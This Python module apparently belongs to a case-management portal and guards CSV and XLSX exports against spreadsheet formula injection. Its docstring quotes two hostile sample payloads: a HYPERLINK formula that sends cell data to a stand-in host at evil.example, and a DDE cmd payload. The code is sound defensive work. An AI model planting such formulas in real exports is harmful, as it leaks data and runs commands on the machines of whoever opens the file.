"""Text a citizen or a colleague wrote never runs as a formula in an exported file.

A case titled `=HYPERLINK("http://evil.example/?x="&A1,"点击")` or a complainee
`=cmd|' /C calc'!A0` was written into the CSV ledger as it was; Excel, WPS and
LibreOffice read a cell that starts with = + - @ as a formula when a supervisor
opens the file (a tab or a carriage return before it, too, and some read the
full-width ＝ ＋ － ＠ that Chinese input methods type the same way).

- CSV: `csv_cell` puts a single quote before such a cell (OWASP's advice for CSV
  injection), so it shows as the text that was typed, after a quote. Plain numbers
  (-3, +1.5) cannot be formulas and are left alone. Every CSV the portal writes
  passes through it: the case ledgers (`cases.ledger.csv_chunks`, used by the admin
  download, the background export and `manage.py export_ledger`) and
  import-export's exports (`SafeCSV`).
- XLSX: a string cell is never evaluated, so the value is kept exactly as typed.
  The ledger workbook writes every text with `write_string`; import-export's XLSX
  goes through openpyxl, which turns any text starting with "=" into a formula
  cell, so `SafeXLSX` makes those cells strings again.

import-export's own IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is not used: it only
removes a leading "=" (changing the data and leaving + - @ alone).
"""

import re
from io import BytesIO

import tablib
from import_export.formats import base_formats
from import_export.formats.base_formats import CSV, XLSX
from openpyxl import load_workbook

FORMULA_STARTS = frozenset("=+-@\t\r＝＋－＠")
_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def csv_cell(value):
    """`value` as a CSV cell that no spreadsheet evaluates."""
    if (
        isinstance(value, str)
        and value[:1] in FORMULA_STARTS
        and not _NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


class SafeCSV(CSV):
    """import-export's CSV, with every cell through `csv_cell`."""

    def export_data(self, dataset, **kwargs):
        safe = tablib.Dataset(
            *([csv_cell(cell) for cell in row] for row in dataset),
            headers=dataset.headers,
            title=dataset.title,
        )
        return super().export_data(safe, **kwargs)


class SafeXLSX(XLSX):
    """import-export's XLSX, with no text written as a formula cell."""

    def export_data(self, dataset, **kwargs):
        workbook = load_workbook(BytesIO(super().export_data(dataset, **kwargs)))
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        cell.data_type = "s"
        content = BytesIO()
        workbook.save(content)
        return content.getvalue()


# import-export keeps numbers and dates native only for the formats in this list,
# matched by exact type; SafeXLSX is XLSX and must keep them too.
if SafeXLSX not in base_formats.BINARY_FORMATS:
    base_formats.BINARY_FORMATS.append(SafeXLSX)
